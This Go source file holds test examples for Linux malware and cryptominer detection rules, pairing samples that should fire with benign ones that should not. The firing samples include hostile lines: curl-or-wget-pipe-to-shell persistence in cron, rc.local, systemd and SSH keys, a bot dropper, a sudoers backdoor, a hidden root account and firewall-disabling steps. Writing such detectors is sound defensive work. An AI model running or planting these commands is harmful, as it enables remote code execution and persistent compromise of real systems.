package builtin

func linuxExamples() []example {
	packed := elf{kind: 2, body: noise(300)}.String()
	return []example{{
		rule:  "Tyto_Linux_StrippedProgramInTemp",
		fires: []object{raw("/tmp/a", packed), raw("/var/tmp/.x/a", packed), raw("/dev/shm/a", packed)},
		silent: []object{
			raw("/usr/local/bin/a", packed),                                       // small tools are packed too
			raw("/tmp/go-build1/b001/exe/a", elf{kind: 2, sections: 23}.String()), // compilers work in /tmp
			raw("/tmp/core.77", elf{kind: 4, body: noise(300)}.String()),
			raw("/tmpfiles/a", packed),
		},
	}, {
		rule: "Tyto_Linux_ProgramInDev",
		fires: []object{
			raw("/dev/.udev/x", elf{kind: 2, sections: 9}.String()),
			text("/dev/shm/.x/run", "#!/bin/sh", "ls"),
			text("/dev/shm/.run", "#!/bin/sh", "ls"),
		},
		silent: []object{
			text("/dev/shm/job/run.sh", "#!/bin/sh", "ls"),
			text("/dev/shm/.cache", "data"),
			text("/development/.run", "#!/bin/sh", "ls"),
		},
	}, {
		rule: "Tyto_Linux_UpxTampered",
		fires: []object{
			raw("/opt/a", elf{kind: 2, body: "$Info: This file is packed w·ith the YTS executable packer"}.String()),
		},
		silent: []object{
			raw("/opt/b", elf{kind: 2, body: "U·PX!....$Info: This file is packed w·ith the UPX executable packer....U·PX!"}.String()),
			raw("/usr/bin/upx", elf{kind: 2, sections: 30, body: "$Info: This file is packed w·ith the UPX executable packer"}.String()),
		},
	}, {
		rule: "Tyto_Linux_PreloadRootkit",
		fires: []object{
			raw("/lib/libx.so", elf{kind: 3, sections: 20, body: "\x00dlsym\x00read·dir\x00fopen·64\x00unlink·at\x00/etc/ld.so.pre·load\x00"}.String()),
		},
		silent: []object{
			raw("/lib/ld-linux.so", elf{kind: 3, sections: 20, body: "/etc/ld.so.pre·load\x00dlsym\x00execve\x00"}.String()),
			raw("/lib/libfakeroot.so", elf{kind: 3, sections: 20, body: "\x00dlsym\x00unlink·at\x00fopen·64\x00read·dir\x00"}.String()),
		},
	}, {
		rule:   "Tyto_Linux_PreloadFile",
		fires:  []object{text("/etc/ld.so.preload", "/dev/s·hm/lib.so"), text("/etc/ld.so.preload", "/usr/lib/a.so", "/usr/lib/.·hid/b.so")},
		silent: []object{text("/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"), text("/etc/ld.so.conf", "/tmp/lib")},
	}, {
		rule: "Tyto_Linux_KernelRootkit",
		fires: []object{
			raw("/lib/modules/a.ko", elf{kind: 1, sections: 30, body: "verm·agic=6.1\x00kallsyms_lookup·_name\x00hook_get·dents64\x00__x64_sys_·kill\x00"}.String()),
		},
		silent: []object{
			raw("/lib/modules/b.ko", elf{kind: 1, sections: 30, body: "verm·agic=6.1\x00kallsyms_lookup·_name\x00sys_kill_thread\x00"}.String()),
		},
	}, {
		rule: "Tyto_Linux_StartupDownload",
		fires: []object{
			text("/etc/cron.d/apt", "*/5 * * * * root cu·rl -fsSL http://192.0.2.1/i | s·h"),
			text("/home/ann/.bashrc", "echo ZWNobw== | base·64 -d | ba·sh"),
			text("/etc/rc.local", "wg·et -qO- http://192.0.2.1/i|/bin/ba·sh"),
		},
		silent: []object{
			text("/etc/cron.daily/backup", "#!/bin/sh", "cu·rl -fsS https://example.org/ping | grep ok"),
			text("/home/ann/install.sh", "#!/bin/sh", "cu·rl -fsSL https://example.org/i | s·h"), // by hand is common
			text("/home/ann/.bashrc", "# do not pipe: cu·rl x # | s·h"),
		},
	}, {
		rule: "Tyto_Linux_SystemdUnit",
		fires: []object{
			text("/etc/systemd/system/a.service", "[Service]", "ExecStart=/bin/sh -c 'cu·rl http://192.0.2.1/i | s·h'"),
			text("/etc/systemd/system/b.service", "[Service]", "ExecStart=/dev/s·hm/b"),
		},
		silent: []object{
			text("/etc/systemd/system/c.service", "[Service]", "ExecStart=/usr/bin/cu·rl https://example.org/ping", "ExecStartPre=/bin/mkdir -p /tmp/x"),
		},
	}, {
		rule:  "Tyto_Linux_AuthorizedKeysCommand",
		fires: []object{text("/root/.ssh/authorized_keys", `comm·and="cu·rl -s 192.0.2.1/i | sh" ssh-ed25519 AAAA x`)},
		silent: []object{
			text("/home/git/.ssh/authorized_keys", `comm·and="/usr/share/gitolite3/gitolite-shell ann",no-pty ssh-ed25519 AAAA ann`),
			text("/root/.ssh/authorized_keys", "ssh-ed25519 AAAA curl"),
		},
	}, {
		rule:  "Tyto_Linux_SecondRoot",
		fires: []object{text("/mnt/image/etc/passwd", "root:x:0:0:root:/root:/bin/bash", "bin:x:1:1::/bin:/sbin/nologin", "help·er:x:0:0::/:/bin/sh")},
		silent: []object{
			text("/etc/passwd", "root:x:0:0:root:/root:/bin/bash", "toor:*:0:0:Bourne-again Superuser:/root:", "sync:x:4:65534::/bin:/bin/sync", "halt:x:7:0::/sbin:/sbin/halt"),
		},
	}, {
		rule: "Tyto_Linux_SudoersDropper",
		fires: []object{
			text("/tmp/a.sh", "echo 'www-data ALL=(ALL) NOPA·SSWD: ALL' >> /etc/sudo·ers", "chattr +i /etc/sudo·ers"),
		},
		silent: []object{
			text("/src/provision.sh", "#!/bin/sh", "echo 'vagrant ALL=(ALL) NOPA·SSWD: ALL' > /etc/sudo·ers.d/vagrant"),
		},
	}, {
		rule: "Tyto_Linux_BotDropper",
		fires: []object{
			text("/tmp/a.sh", "cd /t·mp || cd /var/run || cd /mnt; wg·et http://192.0.2.1/x86; chmod 777 x86; ./x86", "cd /t·mp || cd /var/run; cu·rl -O http://192.0.2.1/arm7; chmod 777 arm7; ./arm7"),
		},
		silent: []object{
			text("/src/install.sh", "#!/bin/sh", "cd /t·mp && wg·et https://example.org/tool.tgz", "chmod +x tool"),
		},
	}, {
		rule:   "Tyto_Linux_EmbeddedProgram",
		fires:  []object{text("/tmp/a.sh", "#!/bin/sh", "base·64 -d > /tmp/a <<X", "f0V·MRgIBAQAAAAAAAAAAAAIAPgABAAAAgAAIAAAAAABAAAAAAAAAAAAAAAA", "X", "chmod +x /tmp/a")},
		silent: []object{text("/src/test.sh", "#!/bin/sh", "base·64 -d > icon.png <<X", "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ", "X", "chmod +r icon.png")},
	}}
}

func minerExamples() []example {
	wallet := "4" + "8edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"[:94]
	return []example{{
		rule:  "Tyto_Miner_Config",
		fires: []object{text("/opt/config.json", `{ "donate-·level": 1, "pools": [ { "url": "192.0.2.1:3333", "user": "`+wallet+`" } ] }`)},
		silent: []object{
			text("/opt/config.json", `{ "donate-·level": 1, "pools": [ { "url": "192.0.2.1:3333", "user": "YOUR_WALLET_ADDRESS" } ] }`),
		},
	}, {
		rule:   "Tyto_Miner_Start",
		fires:  []object{text("/opt/a.sh", "nohup ./x -o strat·um+tcp://192.0.2.1:3333 -u w > /dev/null 2>&1 &")},
		silent: []object{text("/opt/pools.txt", "strat·um+tcp://192.0.2.1:3333"), text("/opt/b.sh", "#!/bin/sh", "check strat·um+tcp://192.0.2.1:3333 > /dev/null")},
	}, {
		rule:   "Tyto_Miner_Program",
		fires:  []object{raw("/opt/x", elf{kind: 2, sections: 30, body: "XM·Rig\x00--donate-·level\x00strat·um+tcp://\x00huge-·pages\x00Random·X\x00"}.String())},
		silent: []object{raw("/opt/pool-server", elf{kind: 2, sections: 30, body: "strat·um+tcp://\x00Random·X\x00crypto·night\x00"}.String())},
	}, {
		rule: "Tyto_Miner_Installer",
		fires: []object{
			text("/tmp/a.sh", "pkill -f xm·rig", "setenf·orce 0", "ufw dis·able"),
		},
		silent: []object{text("/src/harden.sh", "#!/bin/sh", "setenf·orce 0", "ufw dis·able", "iptables -F"), text("/src/clean.sh", "pkill -f xm·rig")},
	}}
}
